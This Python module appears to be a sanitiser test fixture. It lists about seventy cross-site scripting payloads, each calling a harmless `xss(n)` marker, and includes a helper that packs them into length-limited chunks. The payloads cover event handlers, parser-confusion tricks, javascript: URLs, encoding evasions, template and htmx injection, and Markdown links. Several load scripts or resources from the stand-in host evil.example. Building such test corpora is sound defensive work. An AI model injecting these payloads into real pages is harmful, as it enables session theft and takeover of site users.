"""Texts that run, load or draw something where a page takes them for markup. Each that runs calls `xss()`."""

from __future__ import annotations

from collections.abc import Iterator

PAYLOADS = [
    "<script>xss(1)</script>",
    "<ScRiPt >xss(2)</sCrIpT >",
    "<scr<script>ipt>xss(3)</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>xss(4)</script>",
    "<img src=x onerror=xss(5)>",
    '<img src="x`" `onerror=xss(6)>',
    "<IMG/SRC=x/ONERROR=xss(7)>",
    "<svg onload=xss(8)>",
    "<svg><animate onbegin=xss(9) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss(10)><text y=20>x",
    "<svg><script>xss&#40;11)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss(12)>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss(13)>\">",
    "<details open ontoggle=xss(14)>x",
    "<input autofocus onfocus=xss(15)>",
    "<video><source onerror=xss(16)></video>",
    "<iframe srcdoc='<script>parent.xss(17)</script>'>",
    "<iframe src=javascript:parent.xss(18)>",
    "<object data=javascript:xss(19)>",
    "<embed src=//evil.example/x.svg>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:xss(20)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example/><button autofocus>x",
    "<button formaction=javascript:xss(21)>x</button>",
    "<template><script>xss(22)</script></template>",
    '" autofocus onfocus=xss(23) x="',
    "' autofocus onfocus=xss(24) x='",
    '"><img src=x onerror=xss(25)>',
    "'><svg/onload=xss(26)>",
    "</title><script>xss(27)</script>",
    "</textarea><script>xss(28)</script>",
    "</style><script>xss(29)</script>",
    "--><script>xss(30)</script><!--",
    "<!--<img src=--><img src=x onerror=xss(31)//>",
    "<![CDATA[<script>xss(32)</script>]]>",
    "<?xml version='1.0'?><script>xss(33)</script>",
    "javascript:xss(34)",
    "JaVaScRiPt:xss(35)//",
    "java\tscript:xss(36)",
    "\x01javascript:xss(37)",
    "data:text/html,<script>parent.xss(38)</script>",
    "vbscript:xss(39)",
    "&lt;script&gt;xss(40)&lt;/script&gt;",
    "&#60;img src=x onerror=xss(41)&#62;",
    "\uff1cscript\uff1exss(42)\uff1c/script\uff1e",
    "\\u003cscript\\u003exss(43)\\u003c/script\\u003e",
    "%3Cscript%3Exss(44)%3C/script%3E",
    "{{7*7}} ${xss(45)} <%= xss(46) %> #{xss(47)} {% debug %} {{constructor.constructor('xss(48)')()}}",
    "<div hx-on:load=xss(49) hx-get=/ hx-trigger=load>x</div>",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "<div data-hx-on-load=xss(50) hx-swap-oob=true id=outcome>x</div>",
    "<template hx type=partial hx-target=body><script>xss(51)</script></template>",
    "[x](javascript:xss(52))",
    "[x](java&#10;script:xss(53))",
    "![x](https://evil.example/x.png)",
    "![x](javascript:xss(54))",
    "<javascript:xss(55)>",
    '[x](https://example.org "onmouseover=xss(56)")',
    '[x](https://example.org/"onfocus=xss(57)autofocus)',
    "[x]: javascript:xss(58)\n[x]",
    "x';xss(59);//",
    "\\\";xss(60);//",
    "`${xss(61)}`",
    "expression(xss(62));} body{color:red} @import '//evil.example/x';",
    "<plaintext>",
    "<xmp><script>xss(63)</script></xmp>",
    "<x contenteditable onbeforeinput=xss(64) tabindex=1 style=display:block>x",
    "<a href=javascript:xss(65) autofocus onfocus=xss(66)>x</a>",
    "<dialog open onclose=xss(67)><form method=dialog><button autofocus>x",
    "<bdo dir=rtl>x</bdo>",
    "<select><option onfocus=xss(68)></select><keygen autofocus onfocus=xss(69)>",
]  # fmt: skip


def groups(longest: int) -> Iterator[str]:
    """The payloads, as many in one text as `longest` characters hold."""
    text = ""
    for payload in PAYLOADS:
        if text and len(text) + 1 + len(payload) > longest:
            yield text
            text = ""
        text = f"{text} {payload}" if text else payload
    yield text
